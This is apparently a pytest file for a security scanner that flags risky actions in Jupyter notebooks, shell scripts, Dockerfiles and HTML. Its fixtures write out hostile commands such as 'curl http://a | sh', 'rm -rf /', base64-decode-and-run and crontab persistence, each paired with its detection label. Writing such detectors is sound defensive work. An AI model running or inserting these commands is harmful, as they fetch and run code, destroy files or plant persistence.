from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from tests.unit.release.formats.test_code_actions import read

if TYPE_CHECKING:
    from assay.domain.facts import CodeFacts


def notebook(*cells: str, **more) -> CodeFacts:
    made = [{"cell_type": "code", "source": cell} for cell in cells]
    value = {"cells": [{"cell_type": "markdown", "source": "x"}, *made], **more}
    return read(json.dumps(value), path="a.ipynb")


@pytest.mark.parametrize(
    ("cell", "name", "line"),
    [
        ("x = 1\n!curl http://a | sh", "download-and-run", 2),
        ("%%bash\ncurl http://a | sh", "download-and-run", 2),
        ("out = !curl http://a | sh", "download-and-run", 1),
        ("%system curl http://a | sh", "download-and-run", 1),
        ("%pip install a", "pip install", 1),
        ("!pip install a --index-" + "url https://b/c", "other-index", 1),
        ("!nvidia-smi", "!", 1),
        ("%%!\ncurl http://a | sh", "download-and-run", 2),
        ("!!curl http://a | sh", "download-and-run", 1),
        ("c = 'x'\n!{c}", "IPython.get_ipython.system", 2),
        ("c = 'x'\n!$c", "IPython.get_ipython.system", 2),
        ("%%writefile ~/.bashrc\nx", "%%writefile", 1),
        ("%%writefile a.py\nimport os\nos.system('x')", "os.system", 3),
        ("%alias x curl http://a | sh", "download-and-run", 1),
        ("%run -i weights.bin", "%run", 1),
        ("%run https://a.invalid/x.py", "%run", 1),
        ("%%time\nimport os\nos.system('x')", "os.system", 3),
        ("%time __import__('os').system('x')", "os.system", 1),
        ("%%html\n<script>eval(atob('a'))</script>", "eval", 2),
        ("get_ipython().system('x')", "IPython.get_ipython.system", 1),
        ("print 'x'\nimport os\nos.system('x')", "os.system", 3),
    ],
)
def test_what_a_cell_does_is_seen_with_its_cell_and_line(cell, name, line):
    found = notebook(cell).actions
    actions = {(a.name, a.place.key, a.place.inner_line) for a in found}
    assert (name, "cells[1]", line) in actions


def test_cells_share_their_names_and_only_ever_run_when_called():
    code = notebook("import os\nn = 'sys' + 'tem'", "?", "getattr(os, n)('x')")
    found = [a for a in code.actions if a.name == "os.system"]
    assert found[0].place.key == "cells[3]"
    assert {a.when for a in code.actions} == {"call"}
    assert code.place.key == "cells[1]"


def test_older_notebooks_and_sources_in_lines_are_read():
    cell = {"cell_type": "code", "input": ["import os\n", "os.system('x')"]}
    code = read(json.dumps({"worksheets": [{"cells": [cell]}, 3]}), path="a.ipynb")
    (action,) = code.actions
    assert (action.place.key, action.place.inner_line) == ("worksheets[0].cells[0]", 2)


@pytest.mark.parametrize(
    ("kind", "body", "expected"),
    [
        ("text/html", ["<script>", "x</script>"], {("dynamic-code", "outputs")}),
        ("application/javascript", "alert(1)", {("dynamic-code", "outputs")}),
        ("text/plain", "<script>", set()),
    ],
)
def test_scripts_in_outputs_are_seen(kind, body, expected):
    cell = {
        "cell_type": "code",
        "source": "1",
        "outputs": [{"data": {kind: body}}, "x", {"text": "y"}],
    }
    code = read(json.dumps({"cells": [cell]}), path="a.ipynb")
    assert {(a.kind, a.scope) for a in code.actions} == expected


@pytest.mark.parametrize(
    ("path", "text", "names"),
    [
        ("a.sh", "curl http://a \\\n | bash\n", {"download-and-run"}),
        ("a.sh", "# curl http://a | sh\n", set()),
        ("a.sh", "rm -rf build\npython x.py\n", set()),
        ("a.sh", "rm -rf /\n", {"destroys-files"}),
        ("a.sh", "echo YQ== | base64 -d | sh\n", {"decode-and-run"}),
        ("a.sh", "echo '* * * * * x' | crontab -\n", {"stays-behind"}),
        ("a.sh", "wget https://a/b.bin\n", {"download"}),
        ("a.sh", "x\u202e\n", {"direction-control"}),
        ("Dockerfile", "RUN curl -sL http://a | sh\n", {"download-and-run"}),
        ("a.js", "require('child_process')\n", {"child_process"}),
        ("a.hta", "new ActiveXObject('WScript.Shell')\n", {"ActiveXObject"}),
        ("a.vbs", 'CreateObject("WScript.Shell")\n', {"ActiveXObject"}),
        ("a.html", "<p>text</p>\n", set()),
        ("a.html", "<script src='https://a/b.js'></script>\n", {"foreign-script"}),
        ("a.html", "<script src='https://unpkg.com/b.js'></script>\n", {"script"}),
    ],
)
def test_scripts_are_searched_line_by_line(path, text, names):
    code = read(text, path=path)
    assert {action.name for action in code.actions} == names
    assert code.language in {"shell", "javascript"}


def test_a_long_script_is_a_problem():
    code = read("echo a\n" * 100, path="a.sh", max_text_scan_bytes=64)
    assert [problem.kind for problem in code.problems] == ["too-long"]


def test_a_command_in_a_program_is_seen_for_what_it_is():
    code = read("import os\nos.system('curl http://a | sh')\n")
    assert {action.name for action in code.actions} == {"os.system", "download-and-run"}
